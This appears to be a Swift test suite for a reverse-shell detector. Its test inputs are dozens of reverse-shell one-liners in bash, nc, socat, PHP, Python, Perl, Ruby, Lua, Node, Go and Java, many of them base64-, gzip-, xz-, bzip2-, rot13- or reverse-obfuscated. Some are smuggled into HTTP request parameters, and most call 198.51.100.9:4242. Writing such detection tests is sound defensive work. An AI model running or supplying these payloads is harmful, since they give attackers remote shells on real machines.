import Bytes
import Foundation
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

/// Ways to write a shell and its far end, and what is written alike but gives no shell away.
@Suite struct ReverseShellFormsTests {
  /// Slashes that JSON escapes, tabs and plus signs between words, a backslash before any letter, a name without a value.
  @Test(arguments: [
    "bash -i >& \\/dev\\/tcp\\/198.51.100.9\\/4242 0>&1",
    "{\"c\":\"bash -i >& \\/dev\\/tcp\\/198.51.100.9\\/4242 0>&1\"}",
    "bash -i >& /dev\\/tcp/198.51.100.9/4242 0>&1", "nc\t198.51.100.9\t4242\t-e\t/bin/sh",
    "cmd=nc%09198.51.100.9%094242%09-e%09/bin/sh", "GET /run?cd+/tmp;nc+198.51.100.9+4242+-e+/bin/sh HTTP/1.1",
    "/ping?ip=127.0.0.1;bash+-i+>&+/dev/tcp/198.51.100.9/4242+0>&1", "bash -i >& /de\\v/tcp/198.51.100.9/4242 0>&1",
    "bash -i >& /dev/${x}tcp/198.51.100.9/4242 0>&1", "sh <(cat /dev/tcp/198.51.100.9/4242)",
    "socat udp4-datagram:198.51.100.9:4242 exec:sh",
    "mkfifo f; bash -i < f 2>&1 | gnutls-cli --insecure 198.51.100.9 -p 4242 > f",
    "nc -e '/bin/bash -li' 198.51.100.9 4242", "ncat --exec=\"/bin/bash -li\" 198.51.100.9 4242",
    "nc -c 'sh -c \"exec bash -i\"' 198.51.100.9 4242", "socat TCP:198.51.100.9:4242 SYSTEM:\"/bin/sh 2>&1\"",
    "ncat 198.51.100.9 4242 -e \"cmd.exe /c powershell\"",
    "nc \"198.51.100.9\" \"4242\" -e \"/bin/bash\"",
  ])
  func seesWhatPartsWords(text: String) {
    let found = shells(text).first { $0.kind == .reverseShell }
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// Shells of which there are few, in a command and in code.
  @Test(arguments: ["bsh", "pdksh", "mksh", "/bin/csh", "tcsh", "rbash", "pwsh", "/bin/busybox sh", "ash"])
  func rareShellsAreShells(shell: String) {
    for text in [
      "nc -e \(shell) 198.51.100.9 4242", "nc -eu \(shell) 198.51.100.9 4242",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|\(shell) -i 2>&1|nc 198.51.100.9 4242 >/tmp/f",
      "php -r '$s=fsockopen(\"198.51.100.9\",4242);popen(\"\(shell) <&7 >&7 2>&7\", \"r\");'",
      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('198.51.100.9','4242');os.execute('\(shell) -i <&6 >&6 2>&6');\"",
    ] {
      let found = shells(text).first { $0.kind == .reverseShell }
      #expect(found?.host == "198.51.100.9", "\(text)")
      #expect(found?.port == 4242)
    }
  }

  /// Compressed without a header, letters turned once the Base64 is off, and a command in two halves.
  @Test(arguments: [
    "<?php eval(gzinflate(base64_decode('Uym2TSvOT87OL0jN01AytLTQMzXUMzQw0LNU0jExMjHStE6tSE3WUNJPyszTL85Q0M1UsFEzVrADYiMgoaRpDQA='))); ?>",
    "<?php eval(str_rot13('$f=sfbpxbcra(\"198.51.100.9\",4242);rkrp(\"/ova/fu -v <&3 >&3 2>&3\");')); ?>",
    "echo b25mdSAtdiA+JiAvcXJpL2dwYy8xOTguNTEuMTAwLjkvNDI0MiAwPiYx | base64 -d | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "a='bash -i';b=' >& /dev/tcp/198.51.100.9/4242 0>&1';eval \"$a$b\"",
    // Under xz and bzip2, and turned round.
    "echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQApYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDI0MiAwPiYxAAA"
      + "A9pfoo+uFbJYAAUIqelFyOR+2830BAAAAAARZWg== | base64 -d | xz -d | sh",
    "base64 -d <<< QlpoOTFBWSZTWU0HKpYAABAZgEED9mE+YE0AIAAihpo0GQBoUGjRoMgNNPLaMGh15cVhEMJc8MQIUcRT0Cy6vP"
      + "eFfi7kinChIJoOVSw= | bunzip2 | bash",
    "python3 -c 'import bz2,base64;exec(bz2.decompress(base64.b64decode(\"QlpoOTFBWSZTWbbhim8AACebgFBldmo"
      + "ACi9v3qAgAHIo0TQDJiaYRiepod+Iyp7VP1TzVNPSMEep6j1OLHpfbJQ5xsKvIUUSajkcrxqkAjhYplnVvvgxoR1GT7DN9INmEvY"
      + "+b3DVzJtWhYLhhpzJQRadfmEx3NgA3gTawQFbCrJe4k/F3JFOFCQtuGKbwA==\")))'",
    "python3 -c 'import lzma,base64;exec(lzma.decompress(base64.b64decode(\"/Td6WFoAAATm1rRGAgAhARYAAAB0L"
      + "+Wj4AB/AHVdADSbSme4Ujxz96op/aUjPxw9LJgwSEJdh/yjTNzzLyGsPtgK1K/GqobujBfsP4b0qVAGDuWXp5r5QIp7/yqGphAo2"
      + "DPLHDSVhAHHDXsTbQNA+vnXhOSRkyjE3EcIBMaNCwY5UMXTOZiLVF/23/Nc6ASkdWM6zwAAAADzmwbiATY+kgABkQGAAQAAh+SUx"
      + "LHEZ/sCAAAAAARZWg==\")))'",
    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'H"
      + "fC5VGA/7tLeI0fc2+3/SCPlKSAHdNHXdXD0UDoos6/tYIRPtH/q+ImEat0TXFIDyFi89EH8EssUq4iNg9Qe76U2/GzoS50oLzU63"
      + "O0XfvZe1bWFtLuKMRK1YZLpuIyTUgzItEKCS4KlrGNQMEjAKEEzlwJe'))",
    "<?php eval(str_rot13(gzinflate(base64_decode('U0mzLU5LKqhISi5K1FAytLTQMzXUMzQw0LNU0jExMjHStC7KLirQUN"
      + "LPL0vUTytV0C1TsFEzVrADYiMgoaRpDQA='))));?>",
    "<?php @eval(strrev(\";)\\\"3&>2 3&> 3&< i- hs/nib/\\\"(cexe;)2424,\\\"9.001.15.891\\\"(nepokcosf=s\\$"
      + "\"));",
    "import socket,subprocess,os\nTARGETS=[\"198.51.100.9\"]\nPORTS=[4242]\ns=socket.socket()\n"
      + "s.connect((TARGETS[0],PORTS[0]))\nfor i in range(3): os.dup2(s.fileno(),i)\nsubprocess.call([\"/bin/sh\",\"-i\"])",
    // A call is no value, though it begins and ends with one letter.
    "{\"c\":\"const net=require('net');const {spawn}=require('child_process');const cfg={host:'198.51.100.9',port:4242};"
      + "const c=net.createConnection(cfg,()=>{const sh=spawn('/bin/bash',['-i']);c.pipe(sh.stdin);"
      + "sh.stdout.pipe(c);});\", \"pid\": 3}",
  ])
  func undoesWhatIsRare(text: String) {
    let found = shells(text).first { $0.kind == .reverseShell }
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// Base64's plus signs in a request whose blanks are written otherwise, and a command in XML.
  @Test func readsRequests() {
    let digits = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
    #expect(digits.contains("+"))
    for text in [
      "GET /?c=echo%20\(digits)%7Cbase64%20-d%7Cbash HTTP/1.1",
      "exec=bash%20-c%20%7Becho%2C\(digits)%7D%7C%7Bbase64%2C-d%7D%7C%7Bbash%2C-i%7D",
      "<?xml version=\"1.0\"?><a><b>x</b><string>bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1</string></a>",
    ] {
      #expect(shells(text).first?.host == "198.51.100.9")
      #expect(shells(text).first?.port == 4242)
    }
  }

  /// In lines of any length, in quotes side by side, by one `echo` after the other.
  @Test func readsBase64InPieces() {
    let digits = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
    let (first, last) = (digits.prefix(28), digits.dropFirst(28))
    for text in [
      "echo \"\(first)\"\"\(last)\" | base64 -d | bash", "(echo \(first);echo \(last))|base64 -d|sh",
      "echo -e \"\(first)\\n\(last)\" | base64 -d | bash", "cat <<EOF | base64 -d | bash\n\(first)\n\(last)\nEOF",
    ] {
      #expect(shells(text).first?.host == "198.51.100.9", "\(text)")
      #expect(shells(text).first?.port == 4242, "\(text)")
    }
    #expect(shells("echo \"\(first)\" | base64 -d > a; tar cf \(last)").allSatisfy { $0.port == nil })
  }

  /// A name without a dot is a host where a port stands beside it in the connecting call.
  @Test(arguments: [
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"kali\",4242));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "c,_:=net.Dial(\"tcp\",\"kali:4242\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()",
    "php -r '$s=fsockopen(\"kali\",4242);exec(\"sh <&3 >&3 2>&3\");'",
    "ruby -rsocket -e 's=TCPSocket.new(\"kali\",4242);[0,1,2].each{|d|IO.new(d).reopen(s)};exec \"sh -i\"'",
    "perl -e 'use Socket;$i=\"kali\";$p=4242;if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"sh -i\")}'",
    "perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>\"kali\",PeerPort=>4242);STDIN->fdopen($c,r);exec(\"sh\")'",
    "new ProcessBuilder(\"sh\").start();Socket s=new Socket(\"kali\",4242);",
    "node -e 'require(\"net\").connect(4242,\"kali\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin)})'",
    "lua -e 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"kali\",4242);io.popen(t:receive())'",
  ])
  func namesAHostOfOnePart(text: String) {
    #expect(shells(text).first?.host == "kali")
    #expect(shells(text).first?.port == 4242)
  }

  @Test func namesPortsThatAreNoNumbers() {
    #expect(shells("bash -i >& /dev/tcp/198.51.100.9/https 0>&1").first?.port == 443)
    #expect(shells("nc -nvlp4242 -e /bin/sh").first?.port == 4242)
    #expect(shells("ncat -e /bin/sh 198.51.100.9").first?.host == "198.51.100.9")
    #expect(shells("ncat -e /bin/sh 198.51.100.9").first?.port == 31337)
    #expect(shells("nc -e /bin/sh `cat /tmp/h` 4242").first?.port == 4242)
    let arguments =
      "import socket,pty,sys;s=socket.socket();s.connect((sys.argv[1],int(sys.argv[2])));pty.spawn('/bin/sh')"
    #expect(shells(arguments).first?.kind == .reverseShell)
    #expect(shells(arguments).first?.port == nil)
  }

  @Test(arguments: [
    ("php -r '$s=fsockopen(\"udp://198.51.100.9\",4242);exec(\"sh <&3 >&3 2>&3\");'", "udp"),
    ("import socket,pty,os;s=socket.socket(2,socket.SOCK_DGRAM);s.connect((\"198.51.100.9\",1));os.dup2(s,0)", "udp"),
    ("socat UDP:198.51.100.9:4242 EXEC:sh", "udp"), ("socat SCTP:198.51.100.9:4242 EXEC:sh", "sctp"),
    ("socat TCP:198.51.100.9:4242 EXEC:sh", "tcp"),
  ])
  func namesTheTransport(text: String, transport: String) {
    #expect(shells(text).first?.message.hasSuffix("over \(transport)") == true)
  }

  /// What is read and run, and what is read and only looked at.
  @Test(arguments: [
    "do $l", "do \"$l\"", "do sh -c \"$l\"", "do eval \"$l\"", "do bash -c \"cd /; $l\"",
    "do eval \"$(echo $l | rev)\"", "do c=$l; $c",
  ])
  func aLoopThatRunsItsLinesIsAShell(body: String) {
    let text = "exec 5<>/dev/tcp/198.51.100.9/4242; while read l <&5; \(body) >&5; done"
    #expect(shells(text).first?.port == 4242)
  }

  @Test(arguments: [
    "exec 3<>/dev/tcp/127.0.0.1/6379; echo PING >&3; read -t 1 r <&3; echo \"$r\"",
    "exec 3<>/dev/tcp/127.0.0.1/6379; echo PING >&3; read -t 1 r <&3; [ \"$r\" = +PONG ]",
    "exec 5<>/dev/tcp/10.0.0.1/25; while read line <&5; do echo \"$line\"; done",
    "exec 3<>/dev/tcp/smtp.example/25; read -u 3 banner; echo \"$banner\"",
    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/6379; read -t 1 r <&3; echo \"$r\"'",
    "exec 3<>/dev/tcp/db/5432; read r <&3; case \"$r\" in ok) echo yes;; esac",
    "bash -ic '</dev/tcp/db/5432' && echo ok", "ssh host bash </dev/null >/dev/tcp/db/5432",
    "bash < run.sh > /dev/tcp/10.0.0.1/514", "diff <(cat /dev/tcp/10.0.0.1/13) f", "mkfifo p; nc h 1 <p | tee log >p",
    "usage: nc -e /bin/sh HOST PORT",
    "exec 3<>/dev/tcp/127.0.0.1/6379; eval \"$(ssh-agent)\"; read -t 1 r <&3; echo \"$r\"",
    "exec 3<>/dev/tcp/10.0.0.1/80; read -t1 r <&3; $CHECK \"$r\"",
  ])
  func aServiceCheckIsNoShell(text: String) { #expect(shells(text).isEmpty) }

  /// A script or a fixed command behind a port is a service.
  @Test(arguments: [
    "ncat -lk 8080 -c 'bash /opt/http.sh'", "ncat -lk 8080 --sh-exec 'bash /opt/http.sh'",
    "ncat -lk 8080 -c bash /opt/http.sh", "ncat -lk 8080 -c 'sh -c \"cat /etc/motd\"'",
    "ncat -lk 8080 -e 'python3 /opt/h.py'", "socat TCP-LISTEN:5555 EXEC:\"/bin/sh /opt/h.sh\"",
    "socat TCP:10.0.0.1:5 EXEC:\"bash /opt/h.sh\"",
    "const cp=require('child_process');cp.exec('git rev-parse HEAD');require('net').connect(8125,'statsd')",
    "c.connect((\"h\",22)); import subprocess; subprocess.Popen([\"ls\"],stdin=None)",
    "import socket,subprocess;s=socket.socket();s.connect((\"statsd\",8125));subprocess.Popen([\"bash\",\"run.sh\"])",
    "Socket s = new Socket(\"db\",1); s.getInputStream(); Runtime.getRuntime().exec(new String[]{\"bash\",\"x.sh\"});",
  ])
  func aScriptIsNotHandedOver(text: String) { #expect(shells(text).isEmpty) }

  @Test(arguments: [
    "import socket,subprocess;s=socket.socket();s.connect((\"198.51.100.9\",4242))\nwhile 1: subprocess.run(s.recv(9),shell=True)",
    "var c=require('net').connect(4242,'198.51.100.9');c.on('data',d=>require('child_process').exec(d.toString()))",
    "Socket s=new Socket(\"198.51.100.9\",4242);s.getInputStream();Runtime.getRuntime().exec(line);",
  ])
  func whatComesInIsRun(text: String) { #expect(shells(text).first?.port == 4242) }
}
